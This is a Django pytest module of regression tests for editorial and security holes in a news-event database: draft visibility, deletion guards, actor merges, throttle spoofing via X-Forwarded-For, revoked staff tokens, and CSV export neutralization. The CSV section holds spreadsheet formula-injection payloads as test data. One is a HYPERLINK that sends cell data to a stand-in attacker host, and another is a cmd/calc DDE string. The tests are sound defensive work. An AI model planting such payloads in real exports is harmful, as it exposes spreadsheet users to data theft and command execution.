"""Editorial integrity: one regression test (or a few) for each hole a probe found (issue 12),
as an attacker or as two editors racing each other would find them. Each failed before its fix,
except those whose docstring says they pin what already held (the merge's race itself is in
tests/events/test_merge_race.py, on PostgreSQL)."""

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from actors.models import Actor
from core import workflow
from core.publishing import Status
from events import services
from events.models import Event, Quote, Source
from tests.api.conftest import member_of, token_client
from tests.events.test_workflow import admin_client, event_form
from tests.factories import (
    ActorFactory,
    CitationFactory,
    EventFactory,
    ParticipationFactory,
    QuoteFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor():
    return member_of("Editor", "edna")


@pytest.fixture
def publisher():
    return member_of("Publisher", "pablo")


# A quote that is not a draft deleted through the event page's quote inline --------------------


def delete_inline_quote(user, event, quote):
    data = event_form(event)
    n = list(event.quotes.all()).index(quote)
    data[f"quotes-{n}-expected_version"] = quote.version
    data[f"quotes-{n}-DELETE"] = "on"
    return admin_client(user).post(reverse("admin:events_event_change", args=[event.pk]), data)


def test_inline_delete_of_a_published_quote_is_refused_on_the_page(publisher):
    event = EventFactory()
    quote = QuoteFactory(event=event, text="Published words")
    response = delete_inline_quote(publisher, event, quote)
    assert response.status_code == 200  # the form again, with the reason
    assert "Only drafts can be deleted; this entry is published. Withdraw it instead." in response.content.decode()
    assert Quote.objects.get(pk=quote.pk).text == "Published words"
    assert APIClient().get(f"/api/quotes/{quote.pk}/").status_code == 200


def test_inline_delete_of_a_quote_in_review_is_refused_for_an_editor(editor):
    event = EventFactory(status=Status.DRAFT)
    quote = QuoteFactory(event=event, status=Status.REVIEW)
    response = delete_inline_quote(editor, event, quote)
    assert response.status_code == 200
    assert "Only drafts can be deleted; this entry is review. Withdraw it instead." in response.content.decode()
    assert Quote.objects.filter(pk=quote.pk).exists()


def test_inline_delete_of_a_draft_quote_is_recorded_with_the_editor(editor):
    event = EventFactory(status=Status.DRAFT)
    quote = QuoteFactory(event=event, status=Status.DRAFT)
    response = delete_inline_quote(editor, event, quote)
    assert response.status_code == 302
    assert not Quote.objects.filter(pk=quote.pk).exists()
    record = Quote.history.filter(id=quote.pk).latest("history_id")
    assert (record.history_type, record.history_user) == ("-", editor)


# Merging actors overwrote an edit saved in between ------------------------------------------------


def test_merge_keeps_an_edit_saved_before_it_and_records_the_move(publisher):
    """Pins what held before (one after the other); the race is test_merge_race's."""
    survivor, duplicate = ActorFactory(slug="wang-yi"), ActorFactory(slug="yi-wang")
    quote = QuoteFactory(speaker=duplicate, text="Old words")
    api = token_client(publisher)
    assert api.patch(f"/api/quotes/{quote.pk}/", {"text": "Edited words"}, HTTP_IF_MATCH='"1"').status_code == 200
    services.merge_actors(survivor=survivor, duplicate=duplicate, user=publisher)
    quote.refresh_from_db()
    assert (quote.text, quote.speaker, quote.version) == ("Edited words", survivor, 3)
    record = quote.history.latest("history_id")
    assert (record.text, record.speaker_id, record.version, record.history_user) == (
        "Edited words",
        survivor.pk,
        3,
        publisher,
    )


def test_an_edit_started_before_a_merge_is_refused_after_it(publisher):
    """Pins what held before (the merge bumped versions then too)."""
    survivor, duplicate = ActorFactory(slug="wang-yi"), ActorFactory(slug="yi-wang")
    quote = QuoteFactory(speaker=duplicate, text="Old words")
    api = token_client(publisher)
    etag = api.get(f"/api/quotes/{quote.pk}/")["ETag"]
    services.merge_actors(survivor=survivor, duplicate=duplicate, user=publisher)
    response = api.patch(f"/api/quotes/{quote.pk}/", {"text": "Edited words"}, HTTP_IF_MATCH=etag)
    assert response.status_code == 412
    quote.refresh_from_db()
    assert (quote.text, quote.speaker, quote.version) == ("Old words", survivor, 2)


def test_merge_drops_rows_the_survivor_already_has_instead_of_failing(publisher):
    from tests.factories import AffiliationFactory, StateFactory

    china = StateFactory(slug="china")
    survivor, duplicate = ActorFactory(slug="wang-yi"), ActorFactory(slug="yi-wang")
    AffiliationFactory(person=survivor, organization=china, title="Foreign Minister")
    AffiliationFactory(person=duplicate, organization=china, title="Foreign Minister")
    services.merge_actors(survivor=survivor, duplicate=duplicate, user=publisher)
    assert [(a.person.slug, a.organization.slug, a.title) for a in china.members.all()] == [
        ("wang-yi", "china", "Foreign Minister")
    ]


# A staff account with no group saw drafts on the public pages -----------------------------------


@pytest.mark.parametrize("kind", ["event", "source", "quote"])
def test_staff_without_permission_gets_404_for_drafts_like_the_api(kind, editor):
    marker = "previewleak"
    draft = {
        "event": lambda: EventFactory(status=Status.DRAFT, title=marker),
        "source": lambda: SourceFactory(status=Status.DRAFT, title=marker),
        "quote": lambda: QuoteFactory(status=Status.DRAFT, text=marker),
    }[kind]()
    staff = get_user_model().objects.create_user("staff", password="pw", is_staff=True)
    client = Client()
    client.force_login(staff)
    response = client.get(draft.get_absolute_url())
    assert response.status_code == 404
    assert marker not in response.content.decode()
    preview = admin_client(editor).get(draft.get_absolute_url())
    assert preview.status_code == 200 and marker in preview.content.decode()


# Deleting a draft that something points at was a 500 -----------------------------------------------


def test_deleting_a_draft_that_others_refer_to_names_them(publisher):
    actor = ActorFactory(status=Status.DRAFT, name="Draft Actor", slug="draft-actor")
    ParticipationFactory(actor=actor, event=EventFactory(title="Meeting", status=Status.DRAFT))
    source = SourceFactory(status=Status.DRAFT, title="Draft source")
    CitationFactory(source=source, event=EventFactory(title="Call", status=Status.DRAFT))
    event = EventFactory(status=Status.DRAFT, slug="with-quote", title="With a quote")
    QuoteFactory(event=event, text="Words about it", status=Status.DRAFT)
    api = token_client(publisher)
    cases = [
        ("/api/actors/draft-actor/", "“Draft Actor” cannot be deleted while other entries refer to it: "
         "it takes part in event “Meeting”. Remove those references first."),
        (f"/api/sources/{source.pk}/", "“Draft source (Example News)” cannot be deleted while other entries refer "
         "to it: event “Call” cites it. Remove those references first."),
        ("/api/events/with-quote/", "“With a quote” cannot be deleted while other entries refer to it: "
         "quote “Words about it” refers to it. Remove those references first."),
    ]  # fmt: skip
    for url, message in cases:
        response = api.delete(url, HTTP_IF_MATCH='"1"')
        assert (response.status_code, response.json()) == (400, {"status": [message]}), url
    assert (Actor.objects.filter(pk=actor.pk).exists(), Source.objects.filter(pk=source.pk).exists()) == (True, True)
    assert Event.objects.filter(pk=event.pk).exists()


def test_admin_delete_selected_drafts_names_what_refers_to_them(publisher):
    actor = ActorFactory(status=Status.DRAFT, name="Draft Actor")
    ParticipationFactory(actor=actor, event=EventFactory(title="Meeting", status=Status.DRAFT))
    response = admin_client(publisher).post(
        reverse("admin:actors_actor_changelist"),
        {"action": "delete_drafts", "_selected_action": [actor.pk]},
        follow=True,
    )
    assert response.status_code == 200
    assert [str(m) for m in response.context["messages"]] == [
        "“Draft Actor” cannot be deleted while other entries refer to it: it takes part in event “Meeting”. "
        "Remove those references first."
    ]
    assert Actor.objects.filter(pk=actor.pk).exists()


# Generated history notes over 100 characters were a 500 -----------------------------------------------


def test_publishing_with_related_a_long_title_writes_a_note_that_fits(publisher):
    title = "Putin and Xi sign a joint statement on international relations entering a new era xy"
    assert len(title) == 84
    event = EventFactory(status=Status.DRAFT, title=title, slug="long", cited=False)
    source = SourceFactory(status=Status.DRAFT)
    CitationFactory(event=event, source=source)
    response = token_client(publisher).post("/api/events/long/publish/?with_related=1")
    assert response.status_code == 200, response.content
    source.refresh_from_db()
    assert source.status == Status.PUBLISHED
    note = source.history.latest("history_id").history_change_reason
    assert note == f"Published with “{title}”."[:99] + "…"
    assert len(note) == 100


def test_merging_actors_with_long_names_writes_a_note_that_fits(publisher):
    survivor = ActorFactory(name="S" * 60)
    duplicate = ActorFactory(name="D" * 60)
    services.merge_actors(survivor=survivor, duplicate=duplicate, user=publisher)
    survivor.refresh_from_db()
    assert len(survivor.history.latest("history_id").history_change_reason) == 100


def test_every_history_table_holds_notes_of_the_length_the_services_write():
    from django.apps import apps

    for model in [*apps.get_app_config("actors").get_models(), *apps.get_app_config("events").get_models()]:
        if model.__name__.startswith("Historical"):
            field = model._meta.get_field("history_change_reason")
            assert field.max_length == workflow.NOTE_MAX_LENGTH, model


def test_an_api_change_reason_over_the_limit_is_a_400_that_changes_nothing(publisher):
    EventFactory(slug="e", title="Before")
    response = token_client(publisher).patch(
        "/api/events/e/", {"title": "After"}, HTTP_IF_MATCH='"1"', HTTP_X_CHANGE_REASON="x" * 101
    )
    assert (response.status_code, response.json()) == (
        400,
        {"X-Change-Reason": ["At most 100 characters (101 given)."]},
    )
    assert Event.objects.get(slug="e").title == "Before"


# The API throttles trusted a client-supplied X-Forwarded-For ----------------------------------------


def test_token_throttle_ignores_a_forwarded_for_the_client_wrote(settings):
    get_user_model().objects.create_user("ed", password="right-password-123", is_staff=True)
    api = APIClient()
    statuses = [
        api.post(
            "/api/auth/token/",
            {"username": f"nobody-{n}", "password": "wrong"},
            format="json",
            REMOTE_ADDR="10.9.0.1",
            HTTP_X_FORWARDED_FOR=f"203.0.113.{n}",
        ).status_code
        for n in range(15)
    ]
    assert statuses == [401] * 10 + [429] * 5


def test_anonymous_throttle_ignores_a_forwarded_for_the_client_wrote(api, monkeypatch):
    from rest_framework.throttling import AnonRateThrottle

    monkeypatch.setattr(AnonRateThrottle, "THROTTLE_RATES", {"anon": "3/minute"})
    statuses = [
        api.get(f"/api/event-types/?n={n}", REMOTE_ADDR="10.9.0.2", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code
        for n in range(4)
    ]
    assert statuses == [200, 200, 200, 429]


def test_behind_proxies_the_address_is_the_one_the_outermost_proxy_saw(rf, settings):
    from api.throttling import client_address

    settings.PROXY_COUNT = 1
    request = rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="1.2.3.4, 198.51.100.7")
    assert client_address(request) == "198.51.100.7"
    settings.PROXY_COUNT = 2
    assert client_address(request) == "1.2.3.4"
    settings.PROXY_COUNT = 3  # fewer entries than proxies: the header proves nothing
    assert client_address(request) == "10.0.0.1"
    settings.PROXY_COUNT = 0
    assert client_address(request) == "10.0.0.1"


def test_login_lockout_uses_the_same_client_address(rf, settings):
    from axes.helpers import get_client_ip_address

    from api.throttling import client_address

    settings.PROXY_COUNT = 1
    request = rf.post("/admin/login/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="6.6.6.6, 7.7.7.7")
    assert get_client_ip_address(request) == client_address(request) == "7.7.7.7"


# An event that left the public site still showed through its quotes ----------------------------------


@pytest.fixture
def event_gone_by_its_source(publisher):
    event = EventFactory(slug="gone", title="Gone event", cited=False)
    source = SourceFactory(title="Its only source")
    CitationFactory(event=event, source=source)
    other_source = SourceFactory(title="The quote's source")
    quote = QuoteFactory(event=event, source=other_source, text="Words about it")
    workflow.withdraw(obj=source, user=publisher)
    assert not Event.objects.published().filter(pk=event.pk).exists()
    return quote


def test_a_quote_does_not_name_an_event_that_left_the_site(client, event_gone_by_its_source):
    quote = event_gone_by_its_source
    assert client.get("/events/gone/").status_code == 404
    for url in (quote.get_absolute_url(), "/quotes/"):
        html = client.get(url).content.decode()
        assert "Words about it" in html and "Gone event" not in html and "/events/gone/" not in html, url
    assert APIClient().get(f"/api/quotes/{quote.pk}/").json()["event"] is None
    assert [q["event"] for q in APIClient().get("/api/quotes/").json()["results"]] == [None]


def test_quote_json_ld_is_not_about_an_event_that_left_the_site(client, event_gone_by_its_source):
    response = client.get(event_gone_by_its_source.get_absolute_url())
    assert "about" not in response.context["jsonld"]


def test_quote_exports_do_not_name_an_event_that_left_the_site(event_gone_by_its_source):
    api = APIClient()
    rows = list(csv.DictReader(io.StringIO(b"".join(api.get("/api/quotes/?format=csv").streaming_content).decode())))
    assert [(r["text"], r["event"]) for r in rows] == [("Words about it", "")]
    lines = b"".join(api.get("/api/quotes/?format=ndjson").streaming_content).decode().splitlines()
    assert [json.loads(line)["event"] for line in lines[1:]] == [None]


# Spreadsheet formula injection in CSV exports ------------------------------------------------------


FORMULAS = ["=1+1 summit", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_csv_cells_that_start_a_formula_are_neutralized():
    source = SourceFactory(title=FORMULAS[1])
    event = EventFactory(title=FORMULAS[0], slug="formula", summary="+44 20 7946 0000", cited=False)
    CitationFactory(event=event, source=source)
    ActorFactory(name=FORMULAS[2], slug="at-sum", description="-1 and a\ttab")
    ActorFactory(name="\tTabbed", slug="tabbed", description="Plain = text")
    api = APIClient()

    def export(path):
        body = b"".join(api.get(path).streaming_content).decode()
        return list(csv.DictReader(io.StringIO(body)))

    events = export("/api/events/?format=csv")
    assert [(e["title"], e["summary"]) for e in events] == [("'" + FORMULAS[0], "'+44 20 7946 0000")]
    assert [s["title"] for s in export("/api/sources/?format=csv")] == ["'" + FORMULAS[1]]
    actors = export("/api/actors/?format=csv&ordering=name")
    assert [(a["name"], a["description"]) for a in actors] == [
        ("'\tTabbed", "Plain = text"),
        ("'" + FORMULAS[2], "'-1 and a\ttab"),
    ]


# A token kept working after its user lost staff status -------------------------------------------


def test_a_token_stops_working_when_its_account_loses_staff_status():
    user = member_of("Publisher", "former")
    EventFactory(slug="draft", status=Status.DRAFT)
    api = token_client(user)
    assert api.get("/api/events/?status=draft").status_code == 200
    get_user_model().objects.filter(pk=user.pk).update(is_staff=False)
    response = api.get("/api/events/?status=draft")
    assert (response.status_code, response.json()) == (
        401,
        {"detail": "This token's account may no longer use the API as an editor."},
    )
    assert (
        api.post("/api/events/", {"title": "x", "slug": "x", "type": "04", "start_date": "2022-01-01"}).status_code
        == 401
    )
    assert not Event.objects.filter(slug="x").exists()


def test_a_session_of_an_account_that_lost_staff_status_reads_as_the_public():
    user = member_of("Publisher", "former")
    EventFactory(slug="draft", title="previewleak", status=Status.DRAFT)
    client = Client()
    client.force_login(user)
    get_user_model().objects.filter(pk=user.pk).update(is_staff=False)
    assert client.get("/api/events/draft/").status_code == 404
    assert client.get("/events/draft/").status_code == 404
    body = {"title": "x", "slug": "x", "type": "04", "start_date": "2022-01-01"}
    assert client.post("/api/events/", body, content_type="application/json").status_code == 401
    assert not Event.objects.filter(slug="x").exists()


def test_an_editor_cannot_affiliate_a_draft_person_with_a_published_organization_inline(editor):
    """The affiliation shows on the organization's page too: the inline asks what the
    affiliation's own admin page asks (both sides editable)."""
    from actors.models import Affiliation
    from tests.factories import StateFactory

    china = StateFactory(name="China", slug="china")
    person = ActorFactory(status=Status.DRAFT, name="Draft Person", slug="draft-person")
    data = {
        "name": person.name, "confirm_not_duplicate": "on", "slug": person.slug, "kind": person.kind,
        "country": "", "description": "", "wikidata_id": "", "expected_version": person.version,
        "change_reason": "",
        "aliases-TOTAL_FORMS": "0", "aliases-INITIAL_FORMS": "0",
        "affiliations-TOTAL_FORMS": "1", "affiliations-INITIAL_FORMS": "0",
        "affiliations-0-organization": china.pk, "affiliations-0-title": "Envoy", "affiliations-0-person": person.pk,
    }  # fmt: skip
    response = admin_client(editor).post(reverse("admin:actors_actor_change", args=[person.pk]), data)
    assert response.status_code == 200
    assert "Only a Publisher may change what the published “China” shows." in response.content.decode()
    assert not Affiliation.objects.exists()


def test_an_editor_previewing_an_event_without_a_published_source_is_told_it_is_not_public(editor):
    event = EventFactory(slug="unsourced", title="Unsourced event", cited=False)
    CitationFactory(event=event, source=SourceFactory(status=Status.DRAFT))
    assert APIClient().get("/api/events/unsourced/").status_code == 404
    response = admin_client(editor).get("/events/unsourced/")
    assert (response.status_code, response.context["is_preview"]) == (200, True)
    assert (Event.objects.get(pk=event.pk).is_published, EventFactory().is_published) == (False, True)
